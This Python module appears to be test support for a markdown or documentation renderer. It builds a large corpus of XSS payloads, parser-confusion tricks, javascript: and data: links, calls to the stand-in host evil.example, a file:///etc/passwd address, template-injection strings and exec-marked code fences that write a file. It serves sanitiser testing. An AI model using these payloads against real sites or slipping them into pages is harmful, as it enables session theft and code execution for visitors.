"""Texts that a stranger might write to have a page run something: markup, and the places it may hide in.

Whatever of them runs sets `window.__hit`, asks for something of evil.example, or writes the file HIT.
"""

import itertools
import json

JS = "window.__hit=1"
HOST = "evil.example"
BLOCK = "import pathlib; pathlib.Path('{hit}').write_text('x')"  # what a block that runs at build would do

ELEMENTS = [
    "<script>JS</script>",
    "<SCRIPT>JS</SCRIPT>",
    "<script/x>JS</script >",
    "<script src=//HOST/a.js></script>",
    "<script type=module>JS</script>",
    "<img src=x onerror=JS>",
    '<IMG SRC=x OnError="JS">',
    "<img/src=x/onerror=JS>",
    "<img src=https://HOST/a.png>",
    "<img src=//HOST/a.png>",
    "<img src='/&#9;/HOST/a.png'>",
    "<img src=' //HOST/a.png'>",
    r"<img src='/\HOST/a.png'>",
    "<img srcset='//HOST/a.png 1x'>",
    "<picture><source srcset=//HOST/a.png><img></picture>",
    "<svg onload=JS></svg>",
    "<svg><script>JS</script></svg>",
    "<svg><g/onload=JS></g></svg>",
    "<svg><a xlink:href='javascript:JS'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s></svg>",
    "<svg><a><set attributeName=href to='javascript:JS'/><text y=9>x</text></a></svg>",
    "<svg><image href=https://HOST/a.png width=9 height=9 /></svg>",
    "<svg><use href=https://HOST/a.svg#a /></svg>",
    "<svg><rect width=9 height=9 mask='URL(https://HOST/m.png)'/></svg>",
    "<svg><rect width=9 height=9 mask='\\75rl(https://HOST/m.png)'/></svg>",
    "<svg><rect width=9 height=9 mask=\"image-set('https://HOST/m.png' 1x)\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.JS</script>'></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=JS>'>",
    "<svg><desc><noscript><p title='</noscript></desc><img src=x onerror=JS>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=JS&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>",
    "<math href='javascript:JS'>x</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:JS'>x</maction></math>",
    "<details open ontoggle=JS><summary>x</summary></details>",
    "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<iframe src='javascript:parent.JS'></iframe>",
    "<iframe src=//HOST/></iframe>",
    "<object data='javascript:JS'></object>",
    "<object data=//HOST/a.svg></object>",
    "<embed src='javascript:JS'>",
    "<base href=https://HOST/>",
    "<meta http-equiv=refresh content='0;url=https://HOST/'>",
    "<link rel=stylesheet href=//HOST/a.css>",
    "<style>@import '//HOST/a.css';</style>",
    "<form action='javascript:JS'><button autofocus>x</button></form>",
    "<button formaction='javascript:JS' onfocus=JS autofocus>x</button>",
    "<input autofocus onfocus=JS>",
    "<select autofocus onfocus=JS></select>",
    "<video src=x onerror=JS></video>",
    "<video><source onerror=JS src=//HOST/a.mp4></video>",
    "<video poster=//HOST/a.png></video>",
    "<audio src=x onerror=JS></audio>",
    "<body onload=JS>",
    "<frameset onload=JS>",
    "<marquee onstart=JS>x</marquee>",
    "<x:y tabindex=1 autofocus onfocus=JS>x</x:y>",
    "<xss style='animation-name:x' onanimationstart=JS></xss>",
    "<dialog open onclose=JS>x</dialog>",
    "<template><script>JS</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'></noscript>",
    "<textarea></textarea><img src=x onerror=JS>",
    "<title></title><img src=x onerror=JS>",
    "<xmp></xmp><img src=x onerror=JS>",
    "<plaintext><img src=x onerror=JS>",
    "<!--><img src=x onerror=JS>-->",
    "<!-- --!><img src=x onerror=JS> -->",
    "<![CDATA[<img src=x onerror=JS>]]>",
    "<?php <img src=x onerror=JS> ?>",
    "<!DOCTYPE x><img src=x onerror=JS>",
    "<//><img src=x onerror=JS>",
    "<a href='javascript:JS' autofocus onfocus=JS>x</a>",
    "<a href='java&#115;cript:JS'>x</a>",
    "<a href='&#1;javascript:JS'>x</a>",
    "<a href='java&Tab;script:JS'>x</a>",
    "<a href='data:text/html,<script>JS</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<div style='background:url(//HOST/a.png)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99'>x</div>",
    "<pre class=mermaid>graph TD; A-->B</pre>",
    "<pre class='x mermaid'><code>graph TD; A</code></pre>",
    '<em id=__config>{"base":"https://HOST/","features":[],"search":"https://HOST/w.js","translations":{}}</em>',
    "<div data-md-component=announce><button>x</button></div>",
    "<<script>script>JS</script>",
    "<scr<script>ipt>JS</script>",
    "<img src=x onerror\x0c=JS>",
]

CONTEXTS = {
    "alone": "X",
    "in a sentence": "글 X 글",
    "code over blocks": "a ` b\n\nX\n\nc ` d",
    "code over items": "- `\n- X\n- `",
    "open fence": "~~~\nX",
    "fence in a fence": "```\n~~~\nX\n~~~\n",
    "fence that does not close": "```py\n\nX\n\n ```x",
    "fence with ticks": "``` `\nX\n```",
    "indented fence": "    ```\nX\n    ```",
    "fence in a list": "- ```\n  X\n- ```",
    "longer fence": "`````\n```\nX\n```\n\nX",
    "formula over items": "- $x\n- X\n- y$",
    "formula over cells": "| a | b |\n|---|---|\n| $x | X | y$ |",
    "formula over rows": "| a |\n|---|\n| $x |\n| X |\n| y$ |",
    "formula over quotes": "> $x\n\n> X\n\n> y$",
    "formula": "$X$",
    "displayed formula": "$$\nX\n$$",
    "formula in brackets": "\\(X\\) \\[X\\]",
    "text in a formula": "$\\text{X}$",
    "cell": "| a |\n|---|\n| X |",
    "quote": "> X",
    "code in a quote": "> ```\nX\n> ```",
    "admonition": '!!! note "글"\n    X',
    "title of an admonition": '!!! note "X"\n    글',
    "definition": "용어\n:   X",
    "footnote": "글[^1]\n\n[^1]: X",
    "abbreviation": "HTML\n\n*[HTML]: X",
    "heading": "### X",
    "heading below": "X\n===",
    "heading with an id": "### 글 {#X}",
    "words of a link": "[X](https://a.example)",
    "address": "[글](<X>)",
    "title of a link": '[글](https://a.example "X")',
    "query of a link": "[글](page:index?X)",
    "anchor of a link": "[글](#X)",
    "term of a link": "[글](term:X)",
    "address of an automatic link": "<https://a.example/X>",
    "code": "`X`",
    "open code": "``X",
    "ticks that are escaped": "\\`X\\`",
    "entities": "&lt;X&gt; &#60;X",
    "emphasis": "***X***",
    "after a value": "{{measure.name}}X",
    "in a value": "{{measure.name:X}}",
    "block of HTML": '<div markdown="1">\nX\n</div>',
    "item": "1. X",
    "indented code in an item": "-     X",
    "line that goes on": "글  \nX\\\n글",
    "start of text": "\x02X\x03",
    "carriage returns": "`a`\rX\r`",
    "line separators": "`a\u2028X\u2028`",
    "form feed": "`\x0cX\x0c`",
    "null": "\x00X",
    "placeholder": "klzzwxh:0000 \x02wzxhzdk:0\x03 X",
    "marker": "<!-- mundap:path --> X",
}

ADDRESSES = [
    "javascript:JS", "JAVASCRIPT:JS", "java\tscript:JS", "java\nscript:JS", " javascript:JS", "\x01javascript:JS",
    "javascript&colon;JS", "javascript&#58;JS", "java&Tab;script:JS", "&#106;avascript:JS", "javascript%3AJS",
    "data:text/html,<script>JS</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "view-source:javascript:JS",
    "feed:javascript:JS", "blob:x", "file:///etc/passwd", "//HOST/", "\\\\HOST/", "https:javascript:JS",
    "https://a.example/){: onclick=JS }", "https://a.example/\"onmouseover=\"JS",
]  # fmt: skip
LINKS = [
    "[글](A)", "[글](<A>)", "[글]( A )", "[글](A 'x')", "![그림](A)", "<A>", "[글][a]\n\n[a]: A", "> [a]: A\n\n[글][a]",
    "- [a]: A\n\n[글][a]", "글\n:   [a]: A\n\n[글][a]", '!!! note "x"\n    [a]: A\n\n[글][a]', "[^1]\n\n[^1]: x\n\n    [a]: A\n\n[글][a]",
    "- $x\n- [글](A)\n- y$", "- `\n- [글](A)\n- `", "- $x\n- ![글](A)\n- y$", "| $a | [글](A) | b$ |\n|---|---|---|",
]  # fmt: skip
ATTRIBUTES = [
    "글{: onclick=JS }", "글\n{: onclick=JS }", "### 글 {onclick=JS}", "`글`{: onclick=JS }", "[글](#x){onclick=JS}", "*글*{: style='position:fixed' }",
    "- $x\n- *글*{: onclick=JS tabindex=1 autofocus onfocus=JS }\n- y$", "- $x\n- *글*{: href=javascript:JS }\n- y$", "- `\n- *글*{: onfocus=JS }\n- `",
    "- $x\n- *글*{: .mermaid }\n- y$", "- $x\n- *{}*{: #__config }\n- y$", "| $a | *글*{: onclick=JS } | b$ |\n|---|---|---|", "``` {.mermaid}\ngraph TD; A\n```",
    "```mermaid\ngraph TD; A-->B\n```", '```python onclick="JS" title="<img src=x onerror=JS>"\n1\n```', '``` {.python title="&lt;img src=x onerror=JS&gt;" onclick="JS"}\n1\n```',
    "### __config", "### `__init__`", "### __search", "### <", "### &lt;script&gt;JS&lt;/script&gt;", "### `<script>JS</script>`", "### $a<script$",
    '" onmouseover="JS', "'><img src=x onerror=JS>", '0;url=https://HOST/" http-equiv="refresh', '"><script>JS</script>', "&quot;&gt;&lt;script&gt;JS&lt;/script&gt;",
    "따옴표 \" 와 ' 와 &와 >", "{% raw %}{{ 7*7 }}", "{{ config.extra }}", "${JS}", "</title><script>JS</script>", "</script><script>JS</script>", "]]>", "--><img src=x onerror=JS>",
    "e\u0301 \u1112\u1161\u11ab", "\u200b<script>JS</script>", "\u202e글", "\ufeff글", "\ud7ff\ue000", "<\x02script>JS</\x02script>", "<scr\x03ipt>JS</scr\x03ipt>", "\\<script\\>JS\\</script\\>",
]  # fmt: skip
FENCES = [
    '```python exec="1"\nCODE\n```', '~~~python exec="1"\nCODE\n~~~', '~~~ {.python exec="on"}\nCODE\n~~~', "```python exec\nCODE\n```", "``` python  exec=1\nCODE\n```",
    '```python ex\x02ec="1"\nCODE\n```', '`a`\r```python exec="1"\rCODE\r```\r', '- $x\n- \n```python exec="1"\nCODE\n```\n- y$', '> ```python exec="1"\n> CODE\n> ```',
    '- ```python exec="1"\n  CODE\n  ```', '!!! note "x"\n    ```python exec="1"\n    CODE\n    ```', 'a ` b\n\n```python exec="1"\nCODE\n```\n\nc ` d', '````\n```python exec="1"\nCODE\n```',
    '~~~\n```python exec="1"\nCODE\n```\n~~~\n~~~\n\n```python exec="1"\nCODE\n```', '```pyodide\nCODE\n```', '```python exec="1" seal=""\nCODE\n```', '```python exec="1" seal="0123456789abcdef0123456789abcdef"\nCODE\n```',
    '```python\texec="1"\nCODE\n```', '```python EXEC="1"\nCODE\n```', '```py exec="true" session="a"\nCODE\n```', '```python exec=1 html=1\nCODE\n```', '```bash exec="1"\ntouch {hit}\n```', '```sh exec="1"\ntouch {hit}\n```',
    '글\x0b```python exec="1"\nCODE\n```', '글\u2028```python exec="1"\nCODE\n```', '글\x85```python exec="1"\u0085CODE\u0085```', '    ```python exec="1"\n    CODE\n    ```', '\t```python exec="1"\n\tCODE\n\t```',
    '1. 글\n\n    ```python exec="1"\n    CODE\n    ```', '용어\n:   ```python exec="1"\n    CODE\n    ```', '글[^1]\n\n[^1]:\n    ```python exec="1"\n    CODE\n    ```', "```python exec='1'\nCODE\n```", '```{.python exec="1"}\nCODE\n```', '```{ .python .exec exec="1" }\nCODE\n```',
    '``` { .python exec="1" }\nCODE\n```',
]  # fmt: skip
WORST = ["in a sentence", "code over items", "open fence", "formula over items", "formula over rows", "footnote", "start of text"]  # fmt: skip
PLAIN = ["<script>JS</script>", "<img src=x onerror=JS>", "<x:y tabindex=1 autofocus onfocus=JS>x</x:y>"]


def injections(hit, whole=False):
    """Every text. hit: the file that a block would write; whole: every element in every place, instead of the worst."""
    pairs = (
        itertools.product(ELEMENTS, CONTEXTS)
        if whole
        else [*itertools.product(ELEMENTS, WORST), *itertools.product(PLAIN, CONTEXTS)]
    )
    links = (
        itertools.product(LINKS, ADDRESSES)
        if whole
        else [(link, ADDRESSES[(7 * i + j) % len(ADDRESSES)]) for i, link in enumerate(LINKS) for j in range(6)]
    )
    texts = [
        *(CONTEXTS[context].replace("X", element) for element, context in pairs),
        *(link.replace("A", address) for link, address in links),
        *ATTRIBUTES,
        *(fence.replace("CODE", BLOCK) for fence in FENCES),
    ]
    filled = (text.replace("JS", JS).replace("HOST", HOST).replace("{hit}", str(hit)) for text in texts)
    return list(dict.fromkeys(filled))


def quoted(value):
    """A value as JSON that YAML reads the same, with one scalar a line: controls and odd characters are escaped."""
    text = json.dumps(value, ensure_ascii=False, indent=0)
    return "".join(f"\\u{ord(c):04x}" if "\x7f" <= c <= "\x9f" or c in "\u2028\u2029\ufeff" else c for c in text)
